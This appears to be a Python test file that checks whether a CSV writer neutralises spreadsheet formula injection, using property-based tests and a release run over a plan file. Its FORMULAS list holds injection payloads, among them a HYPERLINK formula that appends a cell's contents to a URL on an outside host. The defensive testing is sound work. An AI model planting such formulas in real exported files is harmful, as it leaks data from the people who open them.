"""Whatever text a plan holds, no spreadsheet computes a cell of results.csv; each reads back."""

import csv
import io

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

import deniable
from deniable.certificate.results import csv_bytes
from deniable.errors.validate import begins_formula

FORMULAS = [
    '=HYPERLINK("http://example.org?"&A1,"more")', "+1", "@x", "-1+1", "-2", "\t=1", "\r=1",
    "\n=1", "＝1+1", "＋1", "－1", "＠x", "'=1", "''=1", "'", "-", "=", "it's", "", "a=1", "−1",
    "=1,2", '="x"',
]  # fmt: skip
PLAN = """
[data]
source = "memory"
nulls = []
[target]
gamma = 2.0
[[query]]
name = {name}
statistic = "count"
group_by = ["kind"]
keys = {{ kind = [{keys}] }}
"""


def read_back(cell):
    """As documented: one apostrophe less where a formula, or one with apostrophes, follows it."""
    return cell[1:] if cell.startswith("'") and begins_formula(cell.lstrip("'")) else cell


def cells(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


def is_computed(cell):
    """As spreadsheets have it: the first sign decides, of full width too; a lone - does not."""
    return cell[:1] in tuple("=+-@\t\r\n＝＋－＠") and cell[:1] != "" and cell != "-"


@given(st.lists(st.one_of(st.sampled_from(FORMULAS), st.text()), min_size=1))
def test_no_cell_is_computed_and_every_text_reads_back(texts):
    lines = cells(csv_bytes(pa.table({"text": texts})))
    assert lines[0] == ["text"]
    written = [line[0] if line else "" for line in lines[1:]]
    assert [read_back(each) for each in written] == texts
    assert not any(map(is_computed, written))


def test_negative_numbers_stay_numbers():
    content = csv_bytes(pa.table({"value": [-3.5, 2.0], "key": pa.array([-1, 1], pa.int64())}))
    assert content == b"value,key\r\n-3.5,-1\r\n2.0,1\r\n"


@pytest.mark.parametrize("name", FORMULAS[:2])
def test_a_release_with_such_names_and_keys_is_written_and_checked(tmp_path, name):
    keys = [each for each in FORMULAS if each.isprintable()]
    plan = tmp_path / "plan.toml"
    quoted = ", ".join(
        f"'''{each}'''" if not each.startswith("'") else f'"{each}"' for each in keys
    )
    plan.write_text(PLAN.format(name=f"'''{name}'''", keys=quoted), encoding="utf-8")
    out = deniable.release(plan, tmp_path / "out", data=pa.table({"kind": keys})).out
    header, *rows = cells((out / "results.csv").read_bytes())
    assert {read_back(row[header.index("query")]) for row in rows} == {name}
    assert [read_back(row[header.index("group:kind")]) for row in rows] == keys
    assert not any(is_computed(cell) for row in rows for cell in row[: header.index("value")])
    assert deniable.check(out).holds
